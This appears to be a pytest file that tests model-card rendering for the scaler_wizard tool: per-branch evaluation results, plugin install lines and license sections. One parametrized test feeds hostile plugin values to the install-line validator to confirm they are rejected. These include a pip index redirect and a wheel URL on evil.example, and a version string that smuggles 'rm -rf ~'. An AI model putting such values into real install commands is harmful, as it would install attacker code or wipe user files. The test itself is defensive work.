"""The published model card (issue 10, item 15), rendered from a real manifest and read back
with huggingface_hub's own parsers (``ModelCard`` and ``metadata_load``)."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from huggingface_hub import ModelCard, metadata_load

from scaler_wizard.banks import ContentStore
from scaler_wizard.banks.model_card import model_card, required_plugins

H = "sha256:" + "a" * 64


def manifest_with_metrics(store: ContentStore, same_file: bool = True) -> dict[str, Any]:
    manifest = copy.deepcopy(store.get_manifest(store.resolve("demo")))
    for i, (name, acc) in enumerate((("spam", 0.975), ("topic", 0.61))):
        entry = manifest["branches"][name]
        entry["metrics"] = {"accuracy": acc, "macro_f1": acc - 0.1, "eval_rows": 100}
        entry["provenance"] = {
            "data": {"file": "shared.csv" if same_file else f"file{i}.csv"},
            "eval": {"split": "eval (10%, seed 0)"},
        }
    return manifest


def read_back(text: str, tmp_path: Path) -> tuple[ModelCard, dict[str, Any]]:
    path = tmp_path / "README.md"
    path.write_text(text, encoding="utf-8")
    return ModelCard.load(path), metadata_load(path) or {}


@pytest.mark.parametrize("same_file", [True, False], ids=["one-file", "two-files"])
def test_each_branch_is_its_own_model_index_result(
    same_file: bool, store: ContentStore, tmp_path: Path
) -> None:
    """Two branches trained on one file were merged into one result (the Hub's identity of a
    result leaves the task name out), losing the second branch's name."""
    card, meta = read_back(
        model_card(manifest_with_metrics(store, same_file), H, repo_id="me/demo", tag="v2"), tmp_path
    )
    results = meta["model-index"][0]["results"]
    assert [r["task"]["name"] for r in results] == ["branch spam", "branch topic"]
    assert {r["dataset"]["config"] for r in results} == {"spam", "topic"}
    assert all(r["dataset"]["split"] == "eval (10%, seed 0)" for r in results)
    values = {(r.task_name, r.metric_type): r.metric_value for r in card.data.eval_results}
    assert values == {
        ("branch spam", "accuracy"): 0.975,
        ("branch spam", "f1"): pytest.approx(0.875),
        ("branch topic", "accuracy"): 0.61,
        ("branch topic", "f1"): pytest.approx(0.51),
    }


def test_third_party_plugins_are_listed_with_their_install_line(store: ContentStore, tmp_path: Path) -> None:
    manifest = manifest_with_metrics(store)
    manifest["branches"]["topic"]["head"]["provider"] = {
        "distribution": "scaler-wizard-extras",
        "version": "0.3.1",
    }
    for layer in manifest["trunk"]["layers"]:
        layer["gating"]["provider"] = {"distribution": "moe-gates", "version": "2.0"}
    card, meta = read_back(model_card(manifest, H, repo_id="me/demo", tag="v2"), tmp_path)
    assert meta["scaler_wizard"]["plugins"] == [
        {"kind": "gating", "plugin": "topk", "distribution": "moe-gates", "version": "2.0"},
        {"kind": "head", "plugin": "linear", "distribution": "scaler-wizard-extras", "version": "0.3.1"},
    ]
    assert "## Plugins" in card.text
    assert "| head | `linear` | `scaler-wizard-extras` 0.3.1 | branch topic |" in card.text
    assert "trunk layer 0, trunk layer 1" in card.text
    use = card.text.split("## Use", 1)[1]
    assert 'pip install "scaler-wizard-extras>=0.3.1"' in use and 'pip install "moe-gates>=2.0"' in use


@pytest.mark.parametrize(
    "distribution,version",
    [
        ("legit --index-url http://evil.example/simple", "1.0"),
        ("legit", "1.0; rm -rf ~"),
        ("legit[extra]", "1.0"),
        ("legit @ https://evil.example/x.whl", "1.0"),
    ],
)
def test_a_hostile_provider_gets_no_install_line(distribution: str, version: str) -> None:
    manifest = {
        "trunk": {"layers": []},
        "branches": {
            "b": {
                "strategy": {
                    "plugin": "lora",
                    "provider": {"distribution": "scaler-wizard", "version": "0.1"},
                },
                "head": {"plugin": "odd", "provider": {"distribution": distribution, "version": version}},
            }
        },
    }
    [plugin] = required_plugins(manifest)
    assert plugin["install"] is None


def test_card_has_license_intended_use_and_limitations(store: ContentStore, tmp_path: Path) -> None:
    manifest = manifest_with_metrics(store)
    card, meta = read_back(model_card(manifest, H, repo_id="me/demo", tag="v2", license="mit"), tmp_path)
    for section in ("## Intended use", "## Limitations", "## License", "## Plugins"):
        assert section in card.text, section
    assert meta["license"] == "mit" and card.data.license == "mit"
    assert "`apache-2.0`" in card.text  # the base's licence, all-MiniLM-L6-v2
    assert "`shared.csv`" in card.text.split("## License", 1)[1]
    assert "nothing else to install" in card.text  # every plugin is a built-in
    unlicensed, meta = read_back(model_card(manifest, H, repo_id="me/demo", tag="v2"), tmp_path)
    assert "license" not in meta and "no licence stated by the publisher" in unlicensed.text
